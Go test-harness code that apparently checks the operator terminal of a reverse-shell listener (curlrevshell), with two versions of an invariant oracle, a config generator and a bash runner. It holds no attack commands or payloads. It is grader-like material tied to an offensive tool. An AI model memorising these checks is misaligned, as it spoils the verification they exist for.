			wrap("client side", res.err),
		)
	}
	return out
}

func wrap(side string, err error) error {
	if err == nil {
		return nil
	}
	return errors.New(side + ": " + err.Error())
}

// isRemoteError reports whether err is crypto/tls's "the peer sent an alert".
func isRemoteError(err error) bool {
	var oe *net.OpError
	return errors.As(err, &oe) && oe.Op == "remote error"
}

// isListenError reports whether err stems from opening the listening socket
// (the environment's trouble, not the code's).
func isListenError(err error) bool {
	var oe *net.OpError
	return errors.As(err, &oe) && oe.Op == "listen"
}
