#!/bin/bash
# usage: devrun.sh ENGINE PROP SEED BUDGET_MS [mode] [max_runs]
export GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local CGO_ENABLED=0
D=/tmp/verif-dev/$1; mkdir -p $D/scratch
cd /verif/harness || exit 2
MODFLAG=""
if [ -n "$VERIF_REPO" ]; then
  sed "s#=> /repo#=> $VERIF_REPO#" go.mod > $D/alt.go.mod; cp go.sum $D/alt.go.sum; MODFLAG="-modfile $D/alt.go.mod"
fi
go1.26.8 test -c -tags verif $MODFLAG -o $D/worker.test ./workers/$1 || exit 2
cat > $D/job.json <<EOJ
{"property":"$2","engine":"$1","mode":"${5:-search}","tier":"quick","seed":$3,"worker":${WORKER:-0},"workers":${WORKERS:-1},"budget_ms":$4,"max_runs":${6:-0},"out":"$D/out.json","replay_dir":"${RDIR:-/tmp/verif-dev/replays}","log_path":"/tmp/verif-dev/log.txt","scratch":"$D/scratch","replay":"${REPLAY:-}"}
EOJ
(cd $D && VERIF_JOB=$D/job.json TMPDIR=$D/scratch GOMAXPROCS=${GOMAXPROCS:-2} ./worker.test -test.run '^TestWorker$' -test.timeout 0 2>&1 | tail -${TAIL:-15})
python3 - $D/out.json <<'EOP'
import json,sys
r=json.load(open(sys.argv[1]))
print({k:(v if not isinstance(v,list) else len(v)) for k,v in r.items() if k not in('samples','notes','error')})
for v in r.get('violations') or []: print('VIOL',json.dumps(v)[:2000])
if r.get('error'): print('HARNESS ERROR:',r['error'][:4000])
for n in (r.get('notes') or [])[-60:]: print(n[:800])
EOP
