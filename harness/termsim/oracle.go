package termsim

import (
	"bytes"
	"fmt"
	"strings"
	"time"

	"github.com/magisterquis/curlrevshell/verifharness/simkit"
)

// hasToken reports whether a terminal write carries one of the harness's
// tokens (shell output or status lines the simulator sent).
func (s *sim) hasToken(data []byte) bool {
	return bytes.Contains(data, []byte("<P")) || bytes.Contains(data, []byte("<S"))
}

// check evaluates the invariants at the quiescent point after action a.
func (s *sim) check(a Action) {
	if s.harnessErr != "" {
		return
	}
	now := s.now()
	out := s.termBytes()
	timing := len(s.cfg.Arm) == 0 // the mute model's clock is only meaningful when nothing is held back
	held := s.heldSites()

	// plain output: shown at once unless muted; what arrived while muted never shows
	for i := range s.plainSent {
		t := &s.plainSent[i]
		shown := bytes.Contains(out, []byte(t.key()))
		exp := t.expect
		if exp == "shown-if-never-muted" {
			exp = "unjudged"
			if a.K == "final" && s.ctrlO == 0 {
				exp = "shown"
			}
		}
		switch exp {
		case "shown":
			if !shown && len(held) == 0 && !t.checked {
				if s.ctrlO == 0 {
					s.violate("C19", "nothing-suppressed-without-ctrl-o", "shell output suppressed although Ctrl+O was never pressed",
						"shell output %q (sent at t=%s) is not on the terminal although output was never muted", t.text, time.Duration(t.at))
				} else {
					s.violate("C19", "shown-when-not-muted", "shell output dropped while not muted (after un-mute or before Ctrl+O)",
						"shell output %q (sent at t=%s) is not on the terminal; the mute that began at t=%s ended at t=%s", t.text, time.Duration(t.at), time.Duration(s.mutedSince), time.Duration(s.unmutedAt))
				}
				return
			}
			if shown {
				t.checked = true
			}
		case "hidden":
			if shown {
				s.violate("C19", "muted-output-hidden", "shell output displayed while muted",
					"shell output %q arrived at t=%s while output was muted (since t=%s, last output t=%s) but is on the terminal", t.text, time.Duration(t.at), time.Duration(s.mutedSince), time.Duration(s.last))
				return
			}
		}
	}
	// C03 on the terminal: a plain chunk is written as it came (newlines
	// become CR LF), in one piece, nothing held back for later
	if len(held) == 0 {
		for i := range s.plainSent {
			t := &s.plainSent[i]
			if t.exactChecked || !bytes.Contains(out, []byte(t.key())) {
				continue
			}
			t.exactChecked = true
			// how the line editor spells a newline is its own business: compare with
			// carriage returns taken out on both sides
			want := bytes.ReplaceAll([]byte(t.text), []byte("\r"), nil)
			if !bytes.Contains(bytes.ReplaceAll(out, []byte("\r"), nil), want) {
				s.violate("C03", "plain-verbatim-on-terminal", "shell output not written to the terminal byte for byte in one piece",
					"shell output %q is on the terminal, but not as the contiguous bytes %q (something was changed, reordered or held back)", t.text, string(want))
				return
			}
		}
	}
	// C19, for any schedule: output X (sent at tX) was suppressed, so output
	// was muted when X was handled and stays muted for the pause interval
	// after it; output Y sent after X cannot be on the terminal before tX+pause
	if len(held) == 0 && len(s.och) == 0 {
		for i := range s.plainSent {
			x := &s.plainSent[i]
			if bytes.Contains(out, []byte(x.key())) {
				continue
			}
			for j := i + 1; j < len(s.plainSent); j++ {
				y := &s.plainSent[j]
				if now < x.at+pause && bytes.Contains(out, []byte(y.key())) {
					s.violate("C19", "mute-lasts-after-suppressed-output", "shell output displayed less than the pause interval after suppressed output",
						"shell output %q (sent at t=%s) was suppressed, so output was muted then; yet %q, sent later, is on the terminal at t=%s, before t=%s",
						x.key(), time.Duration(x.at), y.key(), time.Duration(now), time.Duration(x.at+pause))
					return
				}
			}
		}
	}
	// status lines always show
	if len(held) == 0 {
		for i := range s.statusSent {
			t := &s.statusSent[i]
			if t.checked {
				continue
			}
			if !bytes.Contains(out, []byte(t.key())) {
				s.violate("C19", "status-always-shown", "status line not written to the terminal",
					"status line %q (sent at t=%s, muted=%v) is not on the terminal", t.text, time.Duration(t.at), s.muted)
				return
			}
			t.checked = true
		}
	}
	if timing && !s.noJudge {
		// timer-driven writes of this step: the un-mute announcement and nothing else
		s.mu.Lock()
		ws := append([]twrite(nil), s.writes...)
		s.mu.Unlock()
		announced := false
		for _, w := range ws {
			if s.hasToken(w.data) {
				continue
			}
			if s.announceBy > 0 && w.at >= s.unmutedAt && w.at <= s.announceBy && w.at > s.mutedSince {
				announced = true
			}
			if w.step == s.step && a.K == "sleep" && w.at > s.stepStart {
				// something fired by itself during the sleep
				if s.muted && w.at < s.last+pause || !s.muted && s.announceBy > 0 && w.at < s.unmutedAt && w.at > s.mutedSince {
					s.violate("C19", "no-early-unmute", "un-mute announced before the pause interval of calm had passed",
						"a terminal write without any shell or status token (%q) happened by itself at t=%s, but output was muted at t=%s and the last shell output arrived at t=%s: nothing may un-mute before t=%s",
						clipS(string(w.data)), time.Duration(w.at), time.Duration(s.mutedSince), time.Duration(s.last), time.Duration(s.last+pause))
					return
				}
			}
		}
		if s.announceBy > 0 && !announced && now >= s.announceBy {
			s.violate("C19", "unmute-announced", "muting did not end (or was not announced) after the pause interval of calm",
				"output was muted at t=%s, the last shell output arrived at t=%s; by t=%s an un-mute announcement should have been written, none was (now t=%s)",
				time.Duration(s.mutedSince), time.Duration(s.last), time.Duration(s.announceBy), time.Duration(now))
			return
		}
		if announced {
			s.announceBy = 0
			s.probes["announcement_seen"]++
		}
	}
	// operator input: typed lines and inserts arrive in order, an insert as one entry
	if s.stalled {
		if len(s.got) > 0 && !(len(s.got) <= len(s.expectIch) && eqStr(s.got, s.expectIch[:len(s.got)])) {
			s.violate("C02", "terminal-input-fifo", "what the operator entered is not what arrives on the input channel",
				"entered %s; the input channel delivered %s", clipList(s.expectIch), clipList(s.got))
		}
	} else if len(held) == 0 && !eqStr(s.got, s.expectIch) {
		if s.insertOvertaken() {
			s.violate("C02", "insert-keeps-its-place", "line typed after Ctrl+I is delivered before the inserted text",
				"entered %s; the input channel delivered %s: everything arrived once and the typed lines are in order, but inserted text arrived after lines that were typed after Ctrl+I (the insert runs in its own goroutine and is not ordered with the line reader)",
				clipList(s.expectIch), clipList(s.got))
			return
		}
		s.violate("C02", "terminal-input-fifo", "what the operator entered is not what arrives on the input channel",
			"entered %s; the input channel delivered %s (an insert must arrive as exactly one entry)", clipList(s.expectIch), clipList(s.got))
	}
}

// insertOvertaken: got is expectIch with nothing lost or duplicated and the
// typed lines in order; only inserted payloads sit later than they should.
func (s *sim) insertOvertaken() bool {
	if len(s.got) != len(s.expectIch) {
		return false
	}
	pl := string(s.payload)
	var a, b []string
	na, nb := 0, 0
	for _, x := range s.expectIch {
		if x == pl {
			na++
		} else {
			a = append(a, x)
		}
	}
	for _, x := range s.got {
		if x == pl {
			nb++
		} else {
			b = append(b, x)
		}
	}
	if na != nb || na == 0 || !eqStr(a, b) {
		return false
	}
	// every payload arrives no earlier than its place
	seenE, seenG := 0, 0
	for i := range s.got {
		if s.expectIch[i] == pl {
			seenE++
		}
		if s.got[i] == pl {
			seenG++
		}
		if seenG > seenE {
			return false
		}
	}
	return true
}

func (s *sim) finalCheck() {
	s.check(Action{K: "final"})
	s.mu.Lock()
	ret := s.doRet
	s.mu.Unlock()
	if ret && !s.sentEOF {
		s.violate("C19", "shell-keeps-running", "the operator shell ended by itself", "Shell.Do returned %v although input was not closed", s.doErr)
	}
}

func eqStr(a, b []string) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}

func clipList(l []string) string {
	var p []string
	for i, x := range l {
		if i >= 8 {
			p = append(p, "...")
			break
		}
		p = append(p, fmt.Sprintf("%q", clipS(x)))
	}
	return "[" + strings.Join(p, " ") + "]"
}

// stuck is called by the process watchdog when a macro-step does not
// quiesce.  It gives the deadlock verdict only on proof: nothing in the bubble
// is runnable, at least two goroutines wait in sync.Mutex.Lock with frames of
// the shell or its line editor on their stacks, the same ones in two dumps
// 300 ms apart, and the simulator holds no goroutine parked.
func stuck(dump1 []simkit.Goroutine) (*simkit.Found, *simkit.Case, []string) {
	s := current()
	if s == nil {
		return nil, nil, nil
	}
	time.Sleep(300 * time.Millisecond)
	dump2 := simkit.Goroutines()
	waiters := func(d []simkit.Goroutine) (map[int64]string, bool) {
		m := map[int64]string{}
		for _, g := range d {
			if !g.Bubble || g.BubbleID != s.bubble {
				continue
			}
			st := g.State
			if strings.HasPrefix(st, "running") || strings.HasPrefix(st, "runnable") {
				return nil, false
			}
			if strings.HasPrefix(st, "sync.Mutex.Lock") &&
				(strings.Contains(g.Stack, "/lib/opshell.") || strings.Contains(g.Stack, "/goxterm")) {
				m[g.ID] = g.Stack
			}
		}
		return m, true
	}
	w1, ok1 := waiters(dump1)
	w2, ok2 := waiters(dump2)
	if !ok1 || !ok2 || len(w1) < 2 {
		return nil, nil, nil
	}
	for id := range w1 {
		if _, ok := w2[id]; !ok {
			return nil, nil, nil
		}
	}
	s.mu.Lock()
	held := len(s.parks)
	s.mu.Unlock()
	if held > 0 {
		return nil, nil, nil
	}
	var stacks []string
	for _, st := range w2 {
		stacks = append(stacks, st)
	}
	msg := fmt.Sprintf("step %d: the terminal is deadlocked: %d goroutines wait for each other's locks and nothing else can release them:\n%s",
		s.step, len(w2), strings.Join(stacks, "\n\n"))
	f := &simkit.Found{Property: "C19", Invariant: "terminal-stays-live", Signature: "lock-order deadlock between the Ctrl+O handler and terminal output", Message: msg}
	trace := append(append([]string(nil), s.trace...), fmt.Sprintf("step %d %v :: DEADLOCK", s.step, s.lastAct))
	return f, s.caseOf(), trace
}
