package termsim

import (
	"bytes"
	"fmt"
	"strings"
	"time"

	"github.com/magisterquis/curlrevshell/verifharness/simkit"
)

// hasToken reports whether a terminal write carries one of the harness's
// tokens (shell output or status lines the simulator sent).
func hasToken(data []byte) bool {
	return bytes.Contains(data, []byte("<P")) || bytes.Contains(data, []byte("<S"))
}

// check evaluates the invariants at the quiescent point after action a.
func (s *sim) check(a Action) {
	if s.harnessErr != "" {
		return
	}
	now := s.now()
	out := s.termBytes()
	timing := len(s.cfg.Arm) == 0 && !s.windowOpen() // the mute model's clock is only meaningful when nothing is held back
	held := s.heldSites()

	// plain output: shown at once unless muted; what arrived while muted never shows
	for i := range s.plainSent {
		t := &s.plainSent[i]
		shown := s.onTerm(out, t.key())
		exp := t.expect
		if exp == "shown-if-never-muted" {
			exp = "unjudged"
			if a.K == "final" && s.ctrlO == 0 {
				exp = "shown"
			}
		}
		switch exp {
		case "shown":
			if !shown && len(held) == 0 && !t.checked {
				if s.ctrlO == 0 {
					s.violate("C19", "nothing-suppressed-without-ctrl-o", "shell output suppressed although Ctrl+O was never pressed",
						"shell output %q (sent at t=%s) is not on the terminal although output was never muted", t.text, time.Duration(t.at))
				} else {
					s.violate("C19", "shown-when-not-muted", "shell output dropped while not muted (after un-mute or before Ctrl+O)",
						"shell output %q (sent at t=%s) is not on the terminal; the mute that began at t=%s ended at t=%s", t.text, time.Duration(t.at), time.Duration(s.mutedSince), time.Duration(s.unmutedAt))
				}
				return
			}
			if shown {
				t.checked = true
			}
		case "hidden":
			if shown {
				s.violate("C19", "muted-output-hidden", "shell output displayed while muted",
					"shell output %q arrived at t=%s while output was muted (since t=%s, last output t=%s) but is on the terminal", t.text, time.Duration(t.at), time.Duration(s.mutedSince), time.Duration(s.last))
				return
			}
		}
	}
	// C03 on the terminal: a plain chunk is written as it came (newlines
	// become CR LF), in one piece, nothing held back for later
	if len(held) == 0 {
		for i := range s.plainSent {
			t := &s.plainSent[i]
			if t.exactChecked || !s.onTerm(out, t.key()) {
				continue
			}
			t.exactChecked = true
			// how the line editor spells a newline is its own business: compare with
			// carriage returns taken out on both sides
			want := bytes.ReplaceAll([]byte(t.text), []byte("\r"), nil)
			if !bytes.Contains(s.termBytesNoCR(out), want) {
				s.violate("C03", "plain-verbatim-on-terminal", "shell output not written to the terminal byte for byte in one piece",
					"shell output %q is on the terminal, but not as the contiguous bytes %q (something was changed, reordered or held back)", t.text, string(want))
				return
			}
		}
	}
	// C19, for any schedule: output X (sent at tX) was suppressed, so output
	// was muted when X was handled and stays muted for the pause interval
	// after it; output Y sent after X cannot be on the terminal before tX+pause
	if len(held) == 0 && len(s.och) == 0 {
		for i := range s.plainSent {
			x := &s.plainSent[i]
			if s.onTerm(out, x.key()) {
				continue
			}
			for j := i + 1; j < len(s.plainSent); j++ {
				y := &s.plainSent[j]
				if now < x.at+pause && s.onTerm(out, y.key()) {
					s.violate("C19", "mute-lasts-after-suppressed-output", "shell output displayed less than the pause interval after suppressed output",
						"shell output %q (sent at t=%s) was suppressed, so output was muted then; yet %q, sent later, is on the terminal at t=%s, before t=%s",
						x.key(), time.Duration(x.at), y.key(), time.Duration(now), time.Duration(x.at+pause))
					return
				}
			}
		}
	}
	// status lines always show
	if len(held) == 0 {
		for i := range s.statusSent {
			t := &s.statusSent[i]
			if t.checked {
				continue
			}
			if !s.onTerm(out, t.key()) {
				s.violate("C19", "status-always-shown", "status line not written to the terminal",
					"status line %q (sent at t=%s, muted=%v) is not on the terminal", t.text, time.Duration(t.at), s.muted)
				return
			}
			t.checked = true
		}
	}
	if timing && !s.noJudge {
		// timer-driven writes of this step: the un-mute announcement and nothing else
		// (what has been written never changes, more is only ever appended: no copy needed)
		s.mu.Lock()
		ws := s.writes[:len(s.writes):len(s.writes)]
		s.mu.Unlock()
		announced := false
		for _, w := range ws {
			if w.token {
				continue
			}
			if s.announceBy > 0 && w.at >= s.unmutedAt && w.at <= s.announceBy && w.at > s.mutedSince {
				announced = true
			}
			if w.step == s.step && a.K == "sleep" && w.at > s.stepStart {
				// something fired by itself during the sleep
				if s.muted && w.at < s.last+pause || !s.muted && s.announceBy > 0 && w.at < s.unmutedAt && w.at > s.mutedSince {
					s.violate("C19", "no-early-unmute", "un-mute announced before the pause interval of calm had passed",
						"a terminal write without any shell or status token (%q) happened by itself at t=%s, but output was muted at t=%s and the last shell output arrived at t=%s: nothing may un-mute before t=%s",
						clipS(string(w.data)), time.Duration(w.at), time.Duration(s.mutedSince), time.Duration(s.last), time.Duration(s.last+pause))
					return
				}
			}
		}
		if s.announceBy > 0 && !announced && now >= s.announceBy {
			s.violate("C19", "unmute-announced", "muting did not end (or was not announced) after the pause interval of calm",
				"output was muted at t=%s, the last shell output arrived at t=%s; by t=%s an un-mute announcement should have been written, none was (now t=%s)",
				time.Duration(s.mutedSince), time.Duration(s.last), time.Duration(s.announceBy), time.Duration(now))
			return
		}
		if announced {
			s.announceBy = 0
			s.probes["announcement_seen"]++
		}
	}
	// operator input: typed lines and inserts arrive in order, an insert as one entry
	s.checkInput(len(held) > 0)
}

// expEnt is one thing the operator entered: a typed line, or a Ctrl+I.
//
// The property fixes the order of what arrives, exactly-once and that an insert
// arrives as one entry; it does not say at which moment between the key press
// and the delivery the shell reads the insert's source.  So an insert is judged
// by what the source would have given over that whole time: only the payload
// (ok and not bad: the entry must arrive), only failure or nothing (bad and not
// ok: no entry may arrive), or both because the source changed while the insert
// was under way (the entry may or may not arrive; if it does, in its place).
// The time ends (frozen) at the first quiescent point at which nothing can be
// under way any more: input is being taken, nothing is parked, no read of the
// source is in progress, and everything expected has arrived.
type expEnt struct {
	text    string
	insert  bool
	ok, bad bool
	frozen  bool
}

func (e *expEnt) see(mode string) {
	if mode == "" {
		e.ok = true
	} else {
		e.bad = true
	}
}

func (e *expEnt) absent() bool   { return e.insert && !e.ok }
func (e *expEnt) optional() bool { return e.insert && e.ok && e.bad }

// expected is what may arrive: every entry but the inserts which cannot.
func (s *sim) expected() []expEnt {
	var l []expEnt
	for _, e := range s.expect {
		if !e.absent() {
			l = append(l, e)
		}
	}
	return l
}

// maxPending: how many entries may at most be waiting to be taken.
func (s *sim) maxPending() int {
	n := 0
	for i := range s.expect {
		if !s.expect[i].absent() {
			n++
		}
	}
	return n - len(s.got)
}

// matchInput: is got the expected sequence with some of the optional entries
// left out (prefix: the beginning of such a sequence)?
func matchInput(exp []expEnt, got []string, prefix bool) bool {
	n, m := len(exp), len(got)
	// f[j]: the entries considered so far can have produced exactly got[:j]
	f := make([]bool, m+1)
	f[0] = true
	if prefix && m == 0 {
		return true
	}
	for i := 1; i <= n; i++ {
		e := &exp[i-1]
		for j := m; j >= 0; j-- {
			v := f[j] && e.optional()
			if j > 0 && f[j-1] && e.text == got[j-1] {
				v = true
			}
			f[j] = v
		}
		if prefix && f[m] {
			return true
		}
	}
	return f[m]
}

func expTexts(exp []expEnt) string {
	var p []string
	for i, e := range exp {
		if i >= 8 {
			p = append(p, "...")
			break
		}
		x := fmt.Sprintf("%q", clipS(e.text))
		if e.optional() {
			x += "(or nothing: its source changed while it was under way)"
		}
		p = append(p, x)
	}
	return "[" + strings.Join(p, " ") + "]"
}

func (s *sim) checkInput(parked bool) {
	exp := s.expected()
	reading := s.heldReads()
	if reading > 0 {
		s.obs("source reads in progress: %d", reading)
	}
	if s.stalled || (!parked && reading > 0) {
		// nothing or not everything can have arrived: what has must be the beginning
		if len(s.got) > 0 && !matchInput(exp, s.got, true) {
			if n, sizes := s.insertInPieces(exp, true); n > 0 {
				s.violate("C02", "insert-is-one-entry", "inserted text arrives as several entries instead of one",
					"entered %s; the input channel delivered %s: an insert of %d bytes arrived cut into %d entries of %s bytes (an insert must arrive as exactly one entry)",
					expTexts(exp), clipList(s.got), len(s.payloadS), n, sizes)
				return
			}
			if !s.stalled && s.insertOvertaken(exp, true) {
				s.violate("C02", "insert-keeps-its-place", "line typed after Ctrl+I is delivered before the inserted text",
					"entered %s; the input channel delivered %s while the source of an insert entered earlier is still being read", expTexts(exp), clipList(s.got))
				return
			}
			s.violate("C02", "terminal-input-fifo", "what the operator entered is not what arrives on the input channel",
				"entered %s; the input channel delivered %s", expTexts(exp), clipList(s.got))
		}
		return
	}
	if parked {
		return
	}
	if matchInput(exp, s.got, false) {
		// nothing is under way any more: what the source does from now on is of
		// no concern to the inserts entered so far
		for i := range s.expect {
			s.expect[i].frozen = true
		}
		return
	}
	if n, sizes := s.insertInPieces(exp, false); n > 0 {
		s.violate("C02", "insert-is-one-entry", "inserted text arrives as several entries instead of one",
			"entered %s; the input channel delivered %s: an insert of %d bytes arrived cut into %d entries of %s bytes (an insert must arrive as exactly one entry)",
			expTexts(exp), clipList(s.got), len(s.payloadS), n, sizes)
		return
	}
	if s.insertOvertaken(exp, false) {
		s.violate("C02", "insert-keeps-its-place", "line typed after Ctrl+I is delivered before the inserted text",
			"entered %s; the input channel delivered %s: everything arrived once and the typed lines are in order, but inserted text arrived after lines that were typed after Ctrl+I (an insert must keep its place amongst the typed lines, whatever happens to the inserts around it)",
			expTexts(exp), clipList(s.got))
		return
	}
	s.violate("C02", "terminal-input-fifo", "what the operator entered is not what arrives on the input channel",
		"entered %s; the input channel delivered %s (an insert must arrive as exactly one entry)", expTexts(exp), clipList(s.got))
}

// insertInPieces names one way in which what arrived can differ from what was
// entered (the difference itself has been established by matchInput): with
// every run of two or more consecutive entries which together are the inserted
// text, byte for byte, taken as the one entry it should have been, what arrived
// is what was entered.  It returns the number of pieces of the first such run
// and their sizes, or 0.  (prefix: got is only the beginning of what will
// arrive; a run still incomplete at the end of got is then taken as begun.)
func (s *sim) insertInPieces(exp []expEnt, prefix bool) (int, string) {
	pl := s.payloadS
	var joined []string
	first, sizes := 0, ""
	for i := 0; i < len(s.got); {
		j, n := i, 0
		for j < len(s.got) && len(s.got[j]) > 0 && n+len(s.got[j]) <= len(pl) && pl[n:n+len(s.got[j])] == s.got[j] {
			n += len(s.got[j])
			j++
			if n == len(pl) {
				break
			}
		}
		whole := n == len(pl) && j-i >= 2
		begun := prefix && j == len(s.got) && n > 0 && n < len(pl)
		if !whole && !begun {
			joined = append(joined, s.got[i])
			i++
			continue
		}
		if first == 0 {
			first = j - i
			var p []string
			for _, x := range s.got[i:j] {
				if len(p) >= 8 {
					p = append(p, "...")
					break
				}
				p = append(p, fmt.Sprint(len(x)))
			}
			sizes = strings.Join(p, "+")
			if begun {
				sizes += "+(not all has arrived yet)"
			}
		}
		joined = append(joined, pl)
		i = j
	}
	if first == 0 || !matchInput(exp, joined, prefix) {
		return 0, ""
	}
	return first, sizes
}

// insertOvertaken: got is what was expected with nothing lost or duplicated
// and the typed lines in order; only inserted payloads sit later than they
// should.  (prefix: got is only the beginning of what will arrive.)
func (s *sim) insertOvertaken(exp []expEnt, prefix bool) bool {
	pl := s.payloadS
	var a, b []string
	var t, u []int // typed lines before each expected insert / each delivered payload
	var mand []bool
	for i := range exp {
		if exp[i].insert {
			t = append(t, len(a))
			mand = append(mand, !exp[i].optional())
		} else {
			a = append(a, exp[i].text)
		}
	}
	for _, x := range s.got {
		if x == pl {
			u = append(u, len(b))
		} else {
			b = append(b, x)
		}
	}
	if prefix {
		if len(b) > len(a) || !eqStr(a[:len(b)], b) {
			return false
		}
		// no payload came before its place and none too many: as what arrived is
		// not a beginning of what was entered, a line went past an insert
		if len(u) > len(t) {
			return false
		}
		for k := 0; k <= len(b); k++ {
			early, avail := 0, 0
			for _, x := range u {
				if x <= k {
					early++
				}
			}
			for _, x := range t {
				if x <= k {
					avail++
				}
			}
			if early > avail {
				return false
			}
		}
		return true
	}
	if len(u) == 0 || len(u) > len(t) || !eqStr(a, b) {
		return false
	}
	// a payload which arrives after k typed lines can belong to any insert
	// entered after at most k typed lines: each payload needs such an insert,
	// each insert that must arrive needs such a payload
	for k := 0; k <= len(a); k++ {
		early, avail, lateMand, late := 0, 0, 0, 0
		for _, x := range u {
			if x <= k {
				early++
			} else {
				late++
			}
		}
		for i, x := range t {
			if x <= k {
				avail++
			} else if mand[i] {
				lateMand++
			}
		}
		if early > avail || lateMand > late {
			return false
		}
	}
	nm := 0
	for _, m := range mand {
		if m {
			nm++
		}
	}
	return len(u) >= nm
}

func (s *sim) finalCheck() {
	s.check(Action{K: "final"})
	s.mu.Lock()
	ret := s.doRet
	s.mu.Unlock()
	if ret && !s.sentEOF {
		s.violate("C19", "shell-keeps-running", "the operator shell ended by itself", "Shell.Do returned %v although input was not closed", s.doErr)
	}
}

func eqStr(a, b []string) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}

func clipList(l []string) string {
	var p []string
	for i, x := range l {
		if i >= 8 {
			p = append(p, "...")
			break
		}
		p = append(p, fmt.Sprintf("%q", clipS(x)))
	}
	return "[" + strings.Join(p, " ") + "]"
}

// stuck is called by the process watchdog when a macro-step does not
// quiesce.  It gives the deadlock verdict only on proof: nothing in the bubble
// is runnable, at least two goroutines wait in sync.Mutex.Lock with frames of
// the shell or its line editor on their stacks, the same ones in two dumps
// 300 ms apart, and the simulator holds no goroutine parked.
func stuck(dump1 []simkit.Goroutine) (*simkit.Found, *simkit.Case, []string) {
	s := current()
	if s == nil {
		return nil, nil, nil
	}
	time.Sleep(300 * time.Millisecond)
	dump2 := simkit.Goroutines()
	waiters := func(d []simkit.Goroutine) (map[int64]string, bool) {
		m := map[int64]string{}
		for _, g := range d {
			if !g.Bubble || g.BubbleID != s.bubble {
				continue
			}
			st := g.State
			if strings.HasPrefix(st, "running") || strings.HasPrefix(st, "runnable") {
				return nil, false
			}
			if strings.HasPrefix(st, "sync.Mutex.Lock") &&
				(strings.Contains(g.Stack, "/lib/opshell.") || strings.Contains(g.Stack, "/goxterm")) {
				m[g.ID] = g.Stack
			}
		}
		return m, true
	}
	w1, ok1 := waiters(dump1)
	w2, ok2 := waiters(dump2)
	if !ok1 || !ok2 || len(w1) < 2 {
		return nil, nil, nil
	}
	for id := range w1 {
		if _, ok := w2[id]; !ok {
			return nil, nil, nil
		}
	}
	s.mu.Lock()
	held := len(s.parks)
	s.mu.Unlock()
	if held > 0 {
		return nil, nil, nil
	}
	var stacks []string
	for _, st := range w2 {
		stacks = append(stacks, st)
	}
	msg := fmt.Sprintf("step %d: the terminal is deadlocked: %d goroutines wait for each other's locks and nothing else can release them:\n%s",
		s.step, len(w2), strings.Join(stacks, "\n\n"))
	f := &simkit.Found{Property: "C19", Invariant: "terminal-stays-live", Signature: "lock-order deadlock between the Ctrl+O handler and terminal output", Message: msg}
	trace := append(append([]string(nil), s.trace...), fmt.Sprintf("step %d %v :: DEADLOCK", s.step, s.lastAct))
	return f, s.caseOf(), trace
}
