package termsim

import (
	"fmt"
	"time"

	"github.com/magisterquis/curlrevshell/verifharness/simkit"
)

var allSites = []string{"ctrlo", "plain", "plain-locked", "logf", "logf-locked", "timer"}

func genConfig(job *simkit.Job, rng *simkit.RNG, idx int64) (Config, []Action) {
	cfg := Config{Profile: job.Property, ChanCap: []int{4, 64, 1024}[rng.Intn(3)], NoTS: rng.Chance(1, 3), Steps: rng.Range(10, 80)}
	if rng.Chance(1, 5) {
		cfg.InsertSource = []string{"err", "empty"}[rng.Intn(2)]
	}
	if rng.Chance(1, 6) {
		cfg.Stall = true // no shell attached: entered lines pile up on the input channel
		cfg.ChanCap = []int{1, 2, 4}[rng.Intn(3)]
	}
	wIns := 5
	if job.Property == "C02" {
		wIns = 20 // the operator's input is what this profile is about
	}
	cfg.PayloadSize = genPayloadSize(rng, job.Property == "C02")
	wTimer := 2
	if job.Property == "C19" {
		wTimer = 5
	}
	mode := rng.Pick([]int{70, 18, 12, wIns, wTimer}) // timing | lock-order template | lock-order random | insert-chain template | timer-behind-lock template
	if job.Mode == "selftest" && mode != 0 && rng.Chance(1, 2) {
		mode = 0
	}
	switch mode {
	case 1:
		// the window the property's liveness depends on: Ctrl+O is being
		// handled while output holds the write lock (and the mirror image)
		out, pre, locked := "plain", "plain", "plain-locked"
		if rng.Chance(1, 2) {
			out, pre, locked = "status", "logf", "logf-locked"
		}
		cfg.Arm = []string{"ctrlo", pre, locked}
		key := Action{K: "key", B: []byte{0x0f}}
		line := Action{K: out, B: []byte("<P0>")}
		if out == "status" {
			line.B = []byte("<S0>")
		}
		var script []Action
		if rng.Chance(1, 2) {
			script = []Action{key, line, {K: "grant", Site: pre}, {K: "grant_all"}, {K: "disarm"}}
		} else {
			script = []Action{line, {K: "grant", Site: pre}, key, {K: "grant_all"}, {K: "disarm"}}
		}
		cfg.Steps = len(script) + rng.Range(0, 10)
		return cfg, script
	case 3:
		return cfg, genInsertChain(&cfg, rng)
	case 4:
		return cfg, genTimerBehindLock(&cfg, rng)
	case 2:
		// random lock-order runs park only before locks are taken (a goroutine
		// parked while it holds the write lock would stall others in a way the
		// bubble cannot see through; the templates above cover that window)
		pre := []string{"ctrlo", "plain", "logf", "timer"}
		n := rng.Range(1, 3)
		seen := map[string]bool{}
		for i := 0; i < n; i++ {
			site := pre[rng.Intn(len(pre))]
			if !seen[site] {
				seen[site] = true
				cfg.Arm = append(cfg.Arm, site)
			}
		}
	}
	return cfg, nil
}

// genPayloadSize: how much the Ctrl+I source gives in this run.  Mostly the
// short text; otherwise sizes around powers of two (where something that
// passes an insert on in pieces of a fixed size would cut it), about 100 000
// bytes and, rarely because of what it costs, about 1 MiB.
func genPayloadSize(rng *simkit.RNG, inputProfile bool) int {
	w := []int{800, 50, 12, 30, 40, 30, 30, 8}
	if inputProfile {
		w = []int{500, 80, 40, 80, 120, 90, 75, 15}
	}
	switch rng.Pick(w) {
	case 1:
		return rng.Range(16, 8192)
	case 2:
		return 32<<10 - 1
	case 3:
		return 32 << 10
	case 4:
		return 32<<10 + 1
	case 5:
		return 64<<10 + 1
	case 6:
		return rng.Range(90000, 110000)
	case 7:
		return 1<<20 + rng.Range(-1, 1)
	}
	return 0
}

// genInsertChain: things entered one after the other while an insert entered
// before them is still under way (its source is slow), among them inserts
// whose source fails or has nothing: whatever becomes of each, the order of
// what arrives is the order entered.
func genInsertChain(cfg *Config, rng *simkit.RNG) []Action {
	var script []Action
	typed, plain, status := 0, 0, 0
	filler := func() {
		if !rng.Chance(1, 4) {
			return
		}
		switch rng.Intn(3) {
		case 0:
			script = append(script, Action{K: "plain", B: []byte(fmt.Sprintf("<P%d>", plain))})
			plain++
		case 1:
